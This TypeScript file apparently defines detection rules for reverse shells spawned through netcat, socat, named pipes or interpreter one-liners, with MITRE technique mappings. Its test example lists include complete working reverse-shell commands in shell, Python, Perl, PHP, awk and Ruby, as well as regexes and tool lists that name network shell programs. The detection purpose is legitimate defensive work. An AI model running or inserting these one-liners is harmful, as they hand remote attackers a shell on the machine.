import type { CommandLine, SimpleCommand } from "#alert/command-line.ts";
import type { Indicator } from "../../indicator.ts";
import { behind } from "../gates.ts";
import type { Call, Verdict } from "./calls.ts";
import { argumentText, calls, findPipe, inCommands, quoteBetween, quoteCommand, wordWhere } from "./calls.ts";
import { inContainer, onHost, ran } from "./examples.ts";
import { gated } from "./needles.ts";
import { interpreters, netcats, shells } from "./programs.ts";

/** Shells whose keyboard and screen are somewhere else in the network, by the tools that make them. */

const relays = new Set([
  "nc",
  "ncat",
  "netcat",
  "nc.traditional",
  "nc.openbsd",
  "telnet",
  "socat",
  "gs-netcat",
  "cryptcat",
]);

const socketCode =
  /socket|\/inet\/tcp|\/inet\/udp|fsockopen|tcpsocket|net\.connect|net\.socket|io::socket|stream_socket_client|pfsockopen|net\.dial|require\(['"]net['"]\)|luasocket|websocket/;

const shellCode =
  /dup2|subprocess|pty\.spawn|os\.system|popen|proc_open|shell_exec|passthru|\/bin\/(?:ba|da|z|a|k)?sh|exec\s*[({]|child_process|os\.exec|spawn\(|while.{0,80}getline|while.{0,80}gets.{0,80}`|open\s*stdin|stdin->|open\(stdin/;

const codePrograms = new Set([
  ...interpreters,
  "awk",
  "gawk",
  "mawk",
  "nawk",
  "python2",
  "python3",
  "ghci",
  "go",
  "irb",
  "rustc",
  "pwsh",
  "socat",
]);

export const netcatRunsProgram: Indicator = {
  id: "netcat-runs-program",
  behaviour: "runs a network pipe (netcat, socat) that hands a shell to the other end",
  meaning: "Whoever connects, or whoever it connects to, gets a shell on this machine.",
  technique: "T1059.004",
  tactic: "execution",
  alsoTechniques: ["T1095", "T1571"],
  severity: "critical",
  certainty: "certain",
  platforms: ["Linux", "Containers"],
  families: ["syscall", "k8s_audit", "plugin"],
  source: "https://attack.mitre.org/techniques/T1059/004/",
  match: calls(new Set([...netcats, "socat", "busybox"]), netcatProgram),
  examples: {
    found: [
      ran("nc -e /bin/sh 203.0.113.7 4444", inContainer),
      ran("ncat -lvnp 9001 -c bash", inContainer),
      ran("nc -nlvpe /bin/bash 4444"),
      ran("socat TCP:203.0.113.7:443 EXEC:/bin/bash,pty,stderr", onHost),
      ran("busybox nc 203.0.113.7 4444 -e sh"),
      ran("ncat 10.0.0.1 4444 --sh-exec /bin/bash"),
    ],
    ignored: [
      ran("nc -zv 10.0.0.5 5432"),
      ran("socat TCP-LISTEN:80,fork TCP:web:8080"),
      ran("nc -l -p 8080 -c"),
      ran("rsync -e ssh a b"),
    ],
  },
};

export const reverseShellPipes: Indicator = {
  id: "reverse-shell-pipes",
  behaviour: "ties a shell to a network program with a named pipe or a pipeline",
  meaning: "It is the way to a remote shell where netcat cannot run programs by itself.",
  technique: "T1059.004",
  tactic: "execution",
  alsoTechniques: ["T1095", "T1573.002"],
  severity: "critical",
  certainty: "certain",
  platforms: ["Linux", "Containers"],
  families: ["syscall", "k8s_audit", "plugin"],
  source: "https://attack.mitre.org/techniques/T1059/004/",
  match: behind(
    { needs: ["joined-commands"] },
    (facts) => inCommands(facts, shellRelay) ?? shellRelay(facts.parent.command),
  ),
  examples: {
    found: [
      ran("sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f", inContainer),
      ran("bash -c telnet 203.0.113.7 4444 | /bin/bash | telnet 203.0.113.7 4445"),
      ran("sh -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s"),
    ],
    ignored: [
      ran("sh -c mkfifo /tmp/f; tar cf /tmp/f /srv | gzip"),
      ran("sh -c echo | openssl s_client -connect example.com:443 | openssl x509 -noout -dates"),
      ran("sh -c echo PING | nc 10.0.0.4 6379"),
    ],
  },
};

export const reverseShellCode: Indicator = {
  id: "reverse-shell-code",
  behaviour: "runs a one-line program that ties a shell to a network socket",
  meaning: "It is a reverse shell in Python, Perl, PHP, Ruby, Node, Lua or awk: commands come from the other end.",
  technique: "T1059.004",
  tactic: "execution",
  alsoTechniques: ["T1059.006", "T1095"],
  severity: "critical",
  certainty: "certain",
  platforms: ["Linux", "Containers"],
  families: ["syscall", "k8s_audit", "plugin"],
  source: "https://attack.mitre.org/techniques/T1059/",
  match: gated(
    ["socket", "/inet/", "fsockopen", "net.connect", "net.dial", "require"],
    (facts) => inCommands(facts, codeInLine) ?? codeInLine(facts.parent.command),
  ),
  examples: {
    found: [
      ran(
        'python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
        inContainer,
      ),
      ran(
        'perl -e use Socket;$i="203.0.113.7";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(443,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");',
      ),
      ran('php -r $s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'),
      ran(
        'awk BEGIN {s = "/inet/tcp/0/203.0.113.7/4444"; while(42) { do{ s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") }}',
      ),
      ran("ruby -rsocket -e c=TCPSocket.new('203.0.113.7',4444);while l=c.gets;c.print `#{l}`;end"),
      ran(
        'ruby -rsocket -e exit if fork;c=TCPSocket.new("203.0.113.7","443");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
      ),
    ],
    ignored: [
      ran("python3 -c import socket; print(socket.gethostname())"),
      ran("python3 /app/websocket_server.py"),
      ran("php -r echo fsockopen('db',3306) ? 1 : 0;"),
    ],
  },
};

function netcatProgram(call: Call): Verdict {
  if (call.program === "socat") {
    return wordWhere(call, (value) => /^(?:exec|system|shell):/i.test(value));
  }
  if (call.program === "busybox") return false;
  for (const [index, word] of call.args.entries()) {
    const { value } = word;
    if (value.startsWith("--exec") || value.startsWith("--sh-exec") || value.startsWith("--lua-exec"))
      return value.includes("=") ? word : (call.args[index + 1] ?? word);
    if (!/^-[a-zA-Z]{0,8}[ec]$/.test(value)) continue;
    const program = call.args[index + 1];
    if (program && isProgram(program.value)) return program;
  }
  return false;
}

function isProgram(value: string): boolean {
  return !value.startsWith("-") && !/^[\d.:]+$/.test(value);
}

/** A shell in a pipeline with a network program, before or after it. */
function shellRelay(line: CommandLine): string | null {
  const pipe = findPipe(line, isOpenShell, isRelay) ?? findPipe(line, isRelay, isOpenShell);
  return pipe && quoteBetween(line, ...pipe);
}

/** A shell that reads commands from its input: `sh`, `bash -i`, not `sh script.sh`. */
function isOpenShell({ program, words }: SimpleCommand): boolean {
  return (
    shells.has(program) &&
    words.slice(1).every(({ value }) => /^-[il]{1,2}$/.test(value) || value.startsWith("--no") || value === "-s")
  );
}

function isRelay(command: SimpleCommand): boolean {
  if (command.program === "openssl") return command.words[1]?.value === "s_client";
  return relays.has(command.program);
}

function codeInLine(line: CommandLine): string | null {
  for (const command of line.commands) {
    const name = command.program.replace(/[\d.]+$/, "");
    if (!codePrograms.has(name)) continue;
    const text = argumentText({ program: name, args: command.words.slice(1), command, line }).slice(0, 8192);
    if (!socketCode.test(text) || !shellCode.test(text)) continue;
    return quoteCommand(line, command);
  }
  return null;
}
